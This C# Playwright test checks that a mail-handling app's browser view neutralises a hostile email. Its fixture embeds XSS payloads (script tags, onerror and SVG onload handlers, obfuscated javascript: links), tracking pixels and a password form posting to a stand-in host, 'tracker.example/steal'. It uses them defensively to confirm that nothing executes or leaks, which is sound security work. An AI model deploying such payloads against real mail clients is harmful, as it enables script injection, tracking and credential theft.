using ConnectiveOne.Core.Dns;
using ConnectiveOne.Tests.TestSupport;
using Microsoft.Playwright;
using MimeKit;

namespace ConnectiveOne.Tests.Browser;

/// <summary>
/// A mail built to attack the operator's browser, opened in Chromium: nothing in it runs, and nothing leaves the
/// browser (no tracking pixel, no remote image) until the operator asks to see images.
/// </summary>
[Collection(BrowserCollection.Name)]
[Trait("Database", "Sqlite")] // what the page shows and how it is operated, not the provider: API and integration tests cover both databases
public sealed class HostileMailBrowserTests(ChromiumFixture chromium) : IAsyncLifetime
{
    private const string Tracker = "tracker.example";
    private readonly InboundApp _inbound = new(new Dictionary<string, string?> { ["ConnectiveOne:InboundDomain"] = MailSeed.InboundDomain });

    public Task InitializeAsync()
    {
        _inbound.App.StartKestrel();
        return Task.CompletedTask;
    }

    public async Task DisposeAsync() => await _inbound.DisposeAsync();

    private static MimeMessage HostileMail()
    {
        var html = $"""
            <p id="hello">Hello <b>operator</b>, please look at my invoice.</p>
            <script>window.top.pwned = 'script'; fetch('http://{Tracker}/script');</script>
            <img src="x" onerror="window.top.pwned = 'onerror'">
            <a id="js-link" href="javascript:window.top.pwned='link'">open the invoice</a>
            <a href="JaVaScRiPt&colon;window.top.pwned='entity'">encoded link</a>
            <img src="http://{Tracker}/pixel.gif?id=4711" width="1" height="1">
            <img src="https://{Tracker}/logo.png" alt="logo">
            <div style="background:url(http://{Tracker}/css.png)">styled</div>
            <svg onload="window.top.pwned='svg'"><script>window.top.pwned='svg-script'</script></svg>
            <iframe src="http://{Tracker}/frame"></iframe>
            <form action="http://{Tracker}/steal"><input type="password" name="password"><button>Log in</button></form>
            <object data="http://{Tracker}/object"></object>
            <link rel="stylesheet" href="http://{Tracker}/style.css">
            """;
        var body = new BodyBuilder { HtmlBody = html, TextBody = "Hello operator." };
        body.Attachments.Add("invoice.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>"u8.ToArray(),
            new ContentType("image", "svg+xml"));
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Mallory", "mallory@attacker.test"));
        message.To.Add(MailboxAddress.Parse("support@acme.test"));
        message.Subject = "Your invoice";
        message.Body = body.ToMessageBody();
        return message;
    }

    [Fact]
    public async Task Nothing_in_a_hostile_mail_runs_and_no_request_leaves_until_images_are_shown()
    {
        var app = _inbound.App;
        var technical = await MailSeed.AddressServedByBotAsync(app);
        await _inbound.SendAsync(HostileMail(), technical);

        await using var op = await BrowserPage.OpenAsync(chromium.Browser, app.ServerAddress);
        var outside = new List<string>();
        op.Page.Context.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(app.ServerAddress, StringComparison.Ordinal) && !request.Url.StartsWith("about:")
                && !request.Url.StartsWith("data:"))
                lock (outside)
                    outside.Add(request.Url);
        };
        var dialogs = 0;
        op.Page.Dialog += (_, dialog) =>
        {
            dialogs++;
            _ = dialog.DismissAsync();
        };

        await op.RunAsync(async () =>
        {
            await op.SignInAsync(TestApp.AdminEmail, TestApp.AdminPassword, "/inbox");
            await op.Page.GetByTestId("ticket-row").First.ClickAsync();
            var frame = op.Page.Locator("iframe.c1-mail-frame").First.ContentFrame;
            await Assertions.Expect(frame.GetByText("please look at my invoice")).ToBeVisibleAsync();
            await Assertions.Expect(op.Page.GetByTestId("remote-images")).ToBeVisibleAsync();

            // Try what an operator might do: click the links.
            foreach (var link in await frame.Locator("a").AllAsync())
                await link.ClickAsync(new() { Timeout = 2_000 });
            // The positive signal before "no request": every image of the frame has finished (loaded or refused).
            await ImagesSettledAsync(frame);
            await op.ScreenshotAsync("hostile-mail-light-1366");

            Assert.Null(await op.Page.EvaluateAsync<string?>("window.pwned ?? null"));
            Assert.Equal(0, dialogs);
            lock (outside)
                Assert.True(outside.Count == 0, "requests left the browser on opening: " + string.Join(", ", outside));
            Assert.Equal(0, await frame.Locator("script, form, input, iframe, object, svg, link, [onerror], [onload]").CountAsync());

            // The operator asks for images: now, and only now, the remote images load.
            await op.Page.RunAndWaitForRequestAsync(() => op.Page.GetByTestId("show-images").ClickAsync(),
                request => request.Url.Contains($"{Tracker}/logo.png"));
            // Not ImagesSettledAsync here: the revealed images point at a host that never answers (its lookup can hang
            // for minutes); the logo's request is the signal that the reveal happened, and requests start at once.
            lock (outside)
            {
                Assert.Contains(outside, url => url.Contains($"{Tracker}/logo.png"));
                Assert.DoesNotContain(outside, url => url.Contains("/script") || url.Contains("/frame") || url.Contains("/css.png")
                                                      || url.Contains("/object") || url.Contains("/style.css"));
            }
            Assert.Null(await op.Page.EvaluateAsync<string?>("window.pwned ?? null"));
        });

        // The SVG attachment is offered as a download that cannot run as a page of ours.
        var svg = await op.Page.GetByTestId("attachment").Filter(new() { HasText = "invoice.svg" }).GetAttributeAsync("href");
        var response = await op.Page.APIRequest.GetAsync(app.ServerAddress + svg!.Replace("?download=1", ""));
        Assert.StartsWith("attachment", response.Headers["content-disposition"]);
        Assert.Equal("nosniff", response.Headers["x-content-type-options"]);
        Assert.Equal(0, dialogs);
    }

    // Resolves once every <img> of the mail frame is complete (loaded, failed or blocked): the page has finished with them.
    // Bounded: an image still pending after 20 s fails the test instead of hanging the run.
    private static Task ImagesSettledAsync(IFrameLocator frame) =>
        frame.Locator("img").EvaluateAllAsync<object?>(
            "imgs => Promise.race([Promise.all(imgs.map(i => i.complete ? null : new Promise(r => { i.addEventListener('load', r); i.addEventListener('error', r); }))), "
            + "new Promise((_, no) => setTimeout(() => no(new Error('images of the mail frame still loading after 20 s')), 20000))])");
}
